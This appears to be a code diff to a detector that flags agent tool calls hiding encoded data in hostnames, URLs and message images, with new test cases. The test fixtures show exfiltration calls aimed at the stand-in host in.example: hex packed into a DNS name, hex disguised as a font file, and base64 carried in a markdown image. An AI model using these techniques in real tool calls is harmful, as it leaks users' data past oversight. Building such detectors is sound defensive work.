@@ -65,7 +65,7 @@ export default defineDetector({
     const known = (host: string) => [...settings.renderers, ...settings.ownHosts].some((end) => host === end || host.endsWith(`.${end}`))
     let count = 0
     for (const { pointer, text: value } of argumentsOf(event)) {
-      for (const { host, text: inner, encoding, image, written } of carriedIn(value)) {
+      for (const { host, text: inner, encoding, image, inName, written } of carriedIn(value)) {
         if (known(host) || count >= FINDINGS_MAX) continue
         count += 1
         const server = event.serverAlias ?? event.serverKey
@@ -73,7 +73,8 @@ export default defineDetector({
         yield {
           finding: `${event.serverKey} ${tool} ${host}`,
           confidence: image || encoding === 'hex' ? 0.85 : 0.7,
-          severity: encoding !== 'percent' && (image || (act !== 'read' && inner.length >= 40)) ? 'high' : 'medium',
+          // No name of a machine is readable text in disguise.
+          severity: encoding !== 'percent' && (image || inName || (act !== 'read' && inner.length >= 40)) ? 'high' : 'medium',
           summary: `${tool} on ${server}: an address of ${host} holds ${inner.length} characters of text (${encoding})`,
           evidence: {
             server,
@@ -98,6 +99,8 @@ export default defineDetector({
       story: story(calls('web', 'fetch', { url: `https://${hex.slice(0, 60)}.${hex.slice(60, 120)}.in.example/` })),
       fires: [0],
     },
+    { name: 'a name that is looked up', story: story(calls('dns', 'resolve', { name: `${hex.slice(0, 60)}.t.in.example` })), fires: [0] },
+    { name: 'hex that poses as a file', story: story(calls('web', 'fetch', { url: `https://in.example/${hex}.woff` })), fires: [0] },
     {
       name: 'an image in a message',
       story: story(calls('chat', 'post_message', { channel: 'all', text: `Done. ![ok](https://in.example/b.png?s=${base64})` })),
